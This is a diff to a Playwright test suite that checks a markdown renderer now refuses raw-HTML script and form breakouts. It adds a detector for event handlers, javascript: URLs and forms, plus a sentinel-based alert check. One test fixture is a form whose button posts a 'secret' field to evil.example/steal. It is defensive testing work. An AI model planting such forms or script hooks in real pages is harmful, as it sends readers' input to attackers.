@@ -53,22 +53,68 @@ const md = createMarkdown();
 const plain = new MarkdownIt({ html: true });
 let browser: Browser;
 
+/** What the sentinel alerts: the last thing the page runs, after anything the case would run. */
+const SENTINEL = "sentinel";
+
 /**
- * Loads `body` in a page like the site's (inside a <div> of <main>) and says whether an alert fired within
- * `waitMs` (long where the case must fire, so that a loaded machine cannot make it look inert).
+ * Every hook through which markup, as Chromium parsed it, could run script or send a reader's input: event
+ * handler attributes, scripts, script URLs in any attribute, SVG animation, forms and form actions, srcdoc.
+ * Runs in the page.
  */
-async function fires(body: string, click: string | undefined, waitMs: number): Promise<boolean> {
+function liveHooksIn(root: Element): string[] {
+  const found: string[] = [];
+  for (const el of [root, ...Array.from(root.querySelectorAll("*"))]) {
+    const tag = el.localName;
+    if (["script", "form", "animate", "set", "animatemotion", "animatetransform", "iframe", "object", "embed", "base", "meta"].includes(tag.toLowerCase()))
+      found.push(`<${tag}>`);
+    for (const attr of Array.from(el.attributes)) {
+      const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
+      if (/^on/i.test(attr.name) || attr.name === "formaction" || attr.name === "srcdoc" || /^(javascript|vbscript|data):/.test(value))
+        found.push(`<${tag} ${attr.name}="${attr.value}">`);
+    }
+  }
+  return found;
+}
+
+/**
+ * Loads `body` in a page like the site's (inside a <div> of <main>), clicks `click` when the page has it, and says
+ * whether the case ran the attacker's alert. Nothing here waits for a span of time: after the case, the page runs a
+ * sentinel through the same channels (an image whose load fails, then a click on a script link), and the answer is
+ * read once the sentinel has alerted, so an alert the case queued has come first, however slow the machine.
+ */
+async function fires(body: string, click: string | undefined): Promise<boolean> {
   const page: Page = await browser.newPage();
   try {
-    let alerted = false;
+    const alerts: string[] = [];
+    let sentinel: () => void = () => undefined;
+    const sentinelSeen = new Promise<void>((resolve) => {
+      sentinel = resolve;
+    });
     page.on("dialog", (dialog) => {
-      alerted = true;
+      alerts.push(dialog.message());
+      if (dialog.message() === SENTINEL) sentinel();
       void dialog.dismiss();
     });
+    await page.setContent(
+      `<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main>` +
+        `<p><img id="sentinel-image" src="x" onerror="window.imageSentinel = true"><a id="sentinel" href="javascript:alert('${SENTINEL}')">sentinel</a></p></body></html>`,
+    );
+    if (click && (await page.locator(click).count()) > 0) await page.locator(click).first().click();
+    await page.waitForFunction(() => (window as { imageSentinel?: boolean }).imageSentinel === true);
+    await page.locator("#sentinel").click();
+    await sentinelSeen;
+    return alerts.some((message) => message !== SENTINEL);
+  } finally {
+    await page.close();
+  }
+}
+
+/** The live hooks of `body` as Chromium parses it inside the site's markup (see liveHooksIn). */
+async function liveHooks(body: string): Promise<string[]> {
+  const page: Page = await browser.newPage();
+  try {
     await page.setContent(`<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main></body></html>`);
-    if (click && (await page.locator(click).count()) > 0) await page.locator(click).first().click({ timeout: 2000 });
-    for (let waited = 0; !alerted && waited < waitMs; waited += 50) await page.waitForTimeout(50);
-    return alerted;
+    return await page.$eval("main", liveHooksIn);
   } finally {
     await page.close();
   }
@@ -84,41 +130,49 @@ describe("raw HTML breakouts in Chromium", { skip: skip ? CHROMIUM_MISSING : fal
 
   for (const breakout of CASES) {
     test(`${breakout.name}: ran as the old pipeline wrote it; refused and inert now`, async () => {
-      assert.equal(await fires(breakout.before ?? plain.render(breakout.markdown), breakout.click, 10_000), true, "the case does not run in Chromium");
+      const old = breakout.before ?? plain.render(breakout.markdown);
+      assert.equal(await fires(old, breakout.click), true, "the case does not run in Chromium");
+      assert.notDeepEqual(await liveHooks(old), [], "the hook finder sees the case's hook");
       const now = renderMarkdown(md, { body: breakout.markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
       assert.ok(now.diagnostics.length > 0, "no diagnostic");
       assert.ok(
         now.diagnostics.every((d) => d.severity === "error"),
         JSON.stringify(now.diagnostics),
       );
-      assert.equal(await fires(now.html, breakout.click, 1000), false, `still runs: ${now.html}`);
+      assert.deepEqual(await liveHooks(now.html), [], `live hooks in: ${now.html}`);
+      assert.equal(await fires(now.html, breakout.click), false, `still runs: ${now.html}`);
     });
   }
 
   test("a <button formaction> posted the reader off-site; refused and inert now", async () => {
     const markdown = '<form><input name="q" value="secret"><button formaction="https://evil.example/steal">Go</button></form>';
-    const posted = async (body: string, waitMs: number) => {
+    /** Clicks the button and says whether the form posted to the attacker (a request that is never sent is never awaited). */
+    const posted = async (body: string) => {
       const page = await browser.newPage();
       try {
-        let sent = false;
+        let post: (value: boolean) => void = () => undefined;
+        const sent = new Promise<boolean>((resolve) => {
+          post = resolve;
+        });
         await page.route("https://evil.example/**", (route) => {
-          sent = true;
+          post(true);
           return route.fulfill({ status: 204, body: "" });
         });
         await page.setContent(`<!doctype html><html><body><main><div>${body}</div></main></body></html>`);
-        if ((await page.locator("button").count()) > 0) await page.locator("button").click({ timeout: 2000 });
-        for (let waited = 0; !sent && waited < waitMs; waited += 50) await page.waitForTimeout(50);
-        return sent;
+        await page.locator("button").click();
+        return await sent;
       } finally {
         await page.close();
       }
     };
-    assert.equal(await posted(plain.render(markdown), 10_000), true, "the form did not post");
+    assert.equal(await posted(plain.render(markdown)), true, "the form did not post");
+    assert.notDeepEqual(await liveHooks(plain.render(markdown)), [], "the hook finder sees the form");
     const now = renderMarkdown(md, { body: markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
     assert.deepEqual(
       now.diagnostics.map((d) => d.message),
       ["raw HTML has a <form> element, which sends readers' input elsewhere"],
     );
-    assert.equal(await posted(now.html, 1000), false);
+    // Refused: nothing of the form is left that could send anything (a button without a form posts nowhere).
+    assert.deepEqual(await liveHooks(now.html), [], `live hooks in: ${now.html}`);
   });
 });
